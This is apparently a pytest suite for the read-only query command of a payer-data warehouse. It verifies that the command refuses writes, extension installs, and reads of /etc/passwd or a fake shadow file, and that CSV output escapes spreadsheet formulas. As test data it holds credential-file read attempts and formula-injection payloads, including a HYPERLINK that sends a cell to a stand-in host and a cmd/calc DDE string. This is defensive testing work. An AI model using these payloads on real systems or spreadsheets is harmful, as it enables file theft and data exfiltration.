"""`payerbench query` as an attacker and a busy analyst use it: writes and reads outside the warehouse
are refused in one line with exit 2 and the warehouse unchanged; PIVOT reads; CSV is safe to open in
a spreadsheet."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest

from flows import cli
from flows.settings import Settings


def run_cli(settings: Settings, *args: str) -> int:
    return cli.main([*args, "--warehouse", str(settings.warehouse_dir), "--raw-dir", str(settings.raw_dir)])


def fingerprint(settings: Settings) -> dict[str, str]:
    """sha256 of the DuckDB file and of every file of the lake."""
    files = [settings.duckdb_path, *sorted(p for p in settings.lake_dir.rglob("*") if p.is_file())]
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in files}


def one_line_refusal(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


# --- writes, DDL and side effects: refused before anything runs -----------------------------------
WRITE_ATTEMPTS = [
    "insert into catalog values ('x', 'y', 'z')",
    "insert into payer__policy select * from payer__policy",
    "update catalog set kind = 'x'",
    "delete from catalog",
    "delete from payer__policy",
    "truncate catalog",
    "merge into catalog using catalog c on catalog.name = c.name when matched then delete",
    "create table t as select 1",
    "create temp table t as select 1",
    "create or replace view coverage_matrix as select 1",
    "create temp view v as select 1",
    "create macro m(a) as a",
    "create temp macro m(a) as a",
    "create sequence s",
    "create type e as enum ('a')",
    "create schema s",
    "create secret (type s3, key_id 'x', secret 'y')",
    "drop view coverage_matrix",
    "drop table catalog",
    "alter table catalog rename to c2",
    "alter view coverage_matrix rename to cm",
    "comment on table catalog is 'x'",
    "copy (select 1) to '{out}/copy.csv'",
    "copy catalog to '{out}/catalog.parquet' (format parquet)",
    "copy catalog from '{out}/x.csv'",
    # the sandbox allows the lake's folder (DuckDB has no read-only folders): the statement check stops these
    "copy (select 1 as x) to '{lake}/evil.parquet' (format parquet)",
    "copy (select 1 as x) to '{lake}/_load_log/evil.parquet' (format parquet)",
    "pivot (select 1 as a) on a using count(*); copy (select 1) to '{lake}/evil.csv'",
    "export database '{out}/export'",
    "import database '{out}/export'",
    "attach '{out}/other.duckdb' as other",
    "attach ':memory:' as mem",
    "detach payerbench",
    "install httpfs",
    "force install httpfs",
    "load httpfs",
    "update extensions",
    "set enable_external_access = true",
    "set lock_configuration = false",
    "reset enable_external_access",
    "set allowed_directories = ['/']",
    "set variable x = 1",
    "set search_path = 'memory'",
    "use memory",
    "pragma profiling_output = '{out}/profile.json'",
    "pragma memory_limit = '1GB'",
    "checkpoint",
    "force checkpoint",
    "vacuum",
    "analyze",
    "call checkpoint()",
    "begin transaction",
    "prepare p as delete from catalog",
    "execute p",
    "select 1; drop view coverage_matrix",
    "select 1; /* a comment */ delete from catalog",
    "/* select */ drop view coverage_matrix",
    "-- select\ndrop view coverage_matrix",
    "with x as (select 1) insert into catalog select 'a', 'b', 'c' from x",
    "with x as (select 1) delete from catalog",
    "explain analyze copy (select 42) to '{out}/explain.csv'",
    "create table t as pivot benchmark_rate on payer_group using count(*)",
    "create view v as pivot benchmark_rate on payer_group using count(*)",  # a parse error: refused too
    "create view v as pivot benchmark_rate on payer_group in ('aetna') using count(*)",
    "with p as (pivot benchmark_rate on payer_group using count(*)) insert into catalog select 'a', 'b', 'c' from p",
    "pivot benchmark_rate on payer_group using count(*); drop view coverage_matrix",
]


@pytest.mark.parametrize("sql", WRITE_ATTEMPTS)
def test_query_refuses_every_write(
    bundled_warehouse: Settings, tmp_path: Path, sql: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    out.mkdir()
    before = fingerprint(bundled_warehouse)
    capsys.readouterr()
    assert run_cli(bundled_warehouse, "query", sql.format(out=out, lake=bundled_warehouse.lake_dir)) == cli.EXIT_USAGE
    line = one_line_refusal(capsys.readouterr().err)
    assert any(why in line for why in ("refused: ", "exactly one SQL statement", "cannot parse the SQL"))
    assert fingerprint(bundled_warehouse) == before and not any(out.iterdir())


def test_there_are_at_least_forty_write_attempts() -> None:
    assert len(WRITE_ATTEMPTS) >= 40 and len(set(WRITE_ATTEMPTS)) == len(WRITE_ATTEMPTS)


# --- reads outside the warehouse: refused by the sandboxed connection -----------------------------
@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the warehouse holding a secret and another warehouse's Parquet."""
    import duckdb

    folder = tmp_path / "outside"
    (folder / "other" / "lake").mkdir(parents=True)
    (folder / "shadow").write_text("root:secret-hash:19000:0:99999:7:::\n", encoding="utf-8")
    duckdb.execute(f"copy (select 'secret-rate' as payer_name) to '{folder / 'other' / 'lake' / 'part.parquet'}'")
    return folder


@pytest.mark.parametrize(
    "sql, refused",
    [
        ("select * from read_blob('{outside}/shadow')", "shadow"),
        ("select * from read_blob('/etc/passwd')", "/etc/passwd"),
        ("select * from read_csv('/etc/passwd')", "/etc/passwd"),
        ("select * from read_csv('{outside}/shadow')", "shadow"),
        ("select * from read_text('{outside}/shadow')", "shadow"),
        ("select * from read_text('/etc/passwd')", "/etc/passwd"),
        ("select * from glob('/root/*')", "/root/*"),
        ("select * from glob('{outside}/*')", "outside/*"),
        ("select * from read_parquet('{outside}/other/lake/*.parquet')", "other/lake"),
        ("select * from read_csv('http://127.0.0.1:1/x.csv')", "http://127.0.0.1:1/x.csv"),
    ],
)
def test_query_reads_nothing_outside_the_warehouse(
    bundled_warehouse: Settings,
    outside: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    sql: str,
    refused: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))  # where DuckDB would install the httpfs extension
    capsys.readouterr()
    assert run_cli(bundled_warehouse, "query", sql.format(outside=outside), "--format", "csv") == cli.EXIT_USAGE
    captured = capsys.readouterr()
    line = one_line_refusal(captured.err)
    assert line.startswith("payerbench query: refused: ") and refused in line and "never other files" in line
    assert "secret" not in captured.out and "root:" not in captured.out
    assert not (tmp_path / ".duckdb").exists()  # no extension downloaded, no folder created


# --- PIVOT / UNPIVOT read ----------------------------------------------------------------------------
def test_pivot_over_a_view_is_a_read(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    sql = (
        "pivot (select billing_code, payer_group from coverage_matrix where billing_code = '0440T') "
        "on payer_group using count(*) group by billing_code"
    )
    assert run_cli(bundled_warehouse, "query", sql, "--format", "csv") == cli.EXIT_OK
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 1 and rows[0]["billing_code"] == "0440T"
    assert {rows[0][g] for g in ("aetna", "bcbs", "cigna", "unitedhealthcare", "medicare")} == {"1"}


@pytest.mark.parametrize(
    "sql",
    [
        "with p as (pivot coverage_matrix on payer_group using count(*) group by billing_code) select * from p",
        "select * from (pivot coverage_matrix on payer_group using count(*) group by billing_code)",
        "pivot coverage_matrix on payer_group in ('aetna', 'cigna') using count(*) group by billing_code",
        "unpivot (select 1 as a, 2 as b) on a, b into name k value v",
        "/* pivot */ pivot coverage_matrix on payer_group using count(*) group by billing_code -- done",
    ],
)
def test_pivot_forms_are_reads(bundled_warehouse: Settings, sql: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(bundled_warehouse, "query", sql, "--format", "json") == cli.EXIT_OK, capsys.readouterr().err


# --- CSV for spreadsheets ------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=2+2",
    "-2+3",
    "=2+2",
    "\r=1+1",
]


def csv_cells(settings: Settings, capsys: pytest.CaptureFixture[str], sql: str, *flags: str) -> list[list[str]]:
    capsys.readouterr()
    assert run_cli(settings, "query", sql, "--format", "csv", *flags) == cli.EXIT_OK
    return list(csv.reader(io.StringIO(capsys.readouterr().out)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_escaped(
    bundled_warehouse: Settings, formula: str, capsys: pytest.CaptureFixture[str]
) -> None:
    literal = formula.replace("'", "''")
    header, row = csv_cells(bundled_warehouse, capsys, f"select '{literal}' as cell, ['{literal}'] as list")
    assert header == ["cell", "list"] and row == ["'" + formula, "'" + formula]
    _, raw = csv_cells(bundled_warehouse, capsys, f"select '{literal}' as cell", "--raw")
    assert raw == [formula]


def test_csv_numbers_stay_numbers(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    header, row = csv_cells(
        bundled_warehouse,
        capsys,
        "select -12.5 as amount, -12.5::double as ratio, -3 as count, '-12.5' as text_number, "
        "'+4' as plus, '-1e5' as exponent, '-12.5%' as percent, 'a=b' as inner, '-' as dash",
    )
    assert row == ["-12.5", "-12.5", "-3", "-12.5", "+4", "-1e5", "'-12.5%", "a=b", "'-"]


def test_csv_column_names_are_cells_too(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    header, _ = csv_cells(bundled_warehouse, capsys, 'select 1 as "=cmd()"')
    assert header == ["'=cmd()"]


def test_raw_is_for_csv_only(bundled_warehouse: Settings, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_cli(bundled_warehouse, "query", "select 1", "--raw") == cli.EXIT_USAGE
    assert "--raw applies only to --format csv" in capsys.readouterr().err


def test_query_starts_without_importing_prefect_or_the_build(bundled_warehouse: Settings) -> None:
    """`query` is an analyst's quick look: it imports neither Prefect nor the warehouse build (~1.3 s together)."""
    import subprocess
    import sys

    code = (
        "import sys; from flows import cli; "
        f"code = cli.main(['query', 'select count(*) from catalog', '--warehouse', {str(bundled_warehouse.warehouse_dir)!r}]); "
        "print(code, 'prefect' in sys.modules, 'flows.steps.warehouse' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=Path(cli.__file__).parent.parent
    )
    assert result.stdout.strip().splitlines()[-1] == "0 False False", result.stderr
